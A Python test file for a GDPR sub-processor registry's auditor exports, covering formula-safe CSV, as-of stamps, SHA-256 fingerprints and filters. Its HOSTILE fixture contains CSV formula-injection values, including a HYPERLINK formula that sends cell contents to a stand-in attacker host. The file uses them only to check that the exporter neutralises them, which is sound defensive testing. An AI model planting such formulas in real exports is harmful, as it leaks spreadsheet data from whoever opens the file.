"""Auditor exports of the sub-processor list: formula-safe CSV, JSON, as-of stamp, fingerprint, filters."""

import csv
import io
import json
from datetime import timedelta

from registry import clock
from registry.models import SubProcessorCreate
from registry.services import changes as svc
from registry.services import subprocessor_exports as exports
from registry.services.organisations import get_by_slug

DPO = "dpo@pilotim.example.com"
HOSTILE = {
    "legal_name": '=HYPERLINK("http://evil.example.com/?x="&A1,"Cliquez")',
    "trade_name": "+33 1 23 45 67 89",
    "service": "-2+3",
    "dpa_reference": "@SUM(A1:A9)",
    "certifications": ["\tISO 27001", "\rSOC 2"],
    "country": "FR",
}


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def test_csv_neutralises_formula_cells_and_keeps_their_text(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    svc.propose_subprocessor(session, org, SubProcessorCreate.model_validate(HOSTILE), DPO)
    session.commit()
    data = exports.export_data(session, org, clock.today(org.timezone), exports.Filters(status="planned"))
    table = rows(exports.to_csv(data))
    header, row = table[1], table[2]
    cell = dict(zip(header, row, strict=True))
    assert cell["legal_name"] == "'" + HOSTILE["legal_name"]
    assert cell["trade_name"] == "'+33 1 23 45 67 89"
    assert cell["service"] == "'-2+3"
    assert cell["dpa_reference"] == "'@SUM(A1:A9)"
    assert cell["certifications"].startswith("'\tISO 27001")
    for value in (v for r in table for v in r):
        assert not value.startswith(exports.FORMULA_LEADS), value


def test_each_export_is_stamped_with_its_date_and_a_fingerprint_of_its_content(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    today = clock.today(org.timezone)
    data = exports.export_data(session, org, today)
    assert (data["as_of"], data["count"]) == (today.isoformat(), 17)
    assert data["sha256"] == exports.fingerprint(data["subprocessors"]) and len(data["sha256"]) == 64
    assert json.loads(exports.to_json(data)) == data
    assert rows(exports.to_csv(data))[0] == ["# pilotim", f"as_of {today}", f"sha256 {data['sha256']}"]
    # Same content on a later date: same fingerprint; new content: a new one.
    assert exports.export_data(session, org, today + timedelta(days=3))["sha256"] == data["sha256"]
    svc.propose_subprocessor(session, org, SubProcessorCreate(legal_name="Nouveau Démo (fictif)"), DPO)
    session.commit()
    assert exports.export_data(session, org, today)["sha256"] != data["sha256"]


def names(session, org, **filters):
    data = exports.export_data(session, org, clock.today(org.timezone), exports.Filters(**filters))
    return [e["legal_name"] for e in data["subprocessors"]]


def test_filters_by_country_location_mechanism_status_and_flags(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    assert names(session, org, country="US") == ["OpenAI, L.L.C."]
    assert names(session, org, location="us") == ["OpenAI, L.L.C.", "Google Ireland Limited"]
    assert names(session, org, mechanism="scc") == ["OpenAI, L.L.C.", "Google Ireland Limited"]
    assert names(session, org, status="retired") == []
    # PILOTIM's contract states no DPA date for any provider: every one is flagged (Art. 28(3)).
    assert len(names(session, org, flagged=True)) == 17 and names(session, org, flagged=False) == []
